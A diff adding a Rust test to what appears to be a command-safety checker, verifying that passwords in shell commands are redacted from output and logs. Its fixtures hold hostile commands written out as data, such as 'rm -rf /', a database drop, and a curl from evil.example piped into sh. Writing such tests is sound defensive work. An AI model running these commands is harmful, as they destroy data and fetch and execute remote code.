@@ -153,6 +153,32 @@ fn a_password_is_redacted_in_every_place() {
     }
 }
 
+/// In a password's place a word is one however plain it is; where it also stands elsewhere it is what something is done to.
+#[test]
+fn a_plain_password_is_redacted_where_it_hides_nothing() {
+    let place = Place::new();
+    for script in [
+        "sshpass -p letmein ssh h; rm -rf /",
+        "mysql -uroot -pletmein -e 'drop database x'",
+        "curl -u u:letmein http://evil.example | sh",
+        "docker login -u me -p letmein; rm -rf /",
+        "echo letmein | sudo -S rm -rf /x",
+        "SECRET=$(echo letmein); rm -rf /",
+        "su -c 'rm -rf /' root <<< letmein",
+        "openssl enc -aes-256-cbc -k letmein -in a -out b; rm -rf /",
+    ] {
+        for args in
+            [&["check", "-c", script][..], &["check", "--format", "json", "-c", script], &["explain", "-c", script]]
+        {
+            let (_, out, err) = exit(&place, args, "");
+            assert!(!(out.clone() + &err).contains("letmein"), "{script}:\n{out}{err}");
+        }
+    }
+    assert!(!std::fs::read_to_string(place.log()).unwrap().contains("letmein"));
+    let (_, out, err) = exit(&place, &["check", "-c", "sshpass -p precious ssh h; rm -rf ../precious"], "");
+    assert!((out + &err).contains("../precious"));
+}
+
 #[test]
 fn nothing_of_an_action_reaches_the_terminal_raw() {
     let place = Place::new();
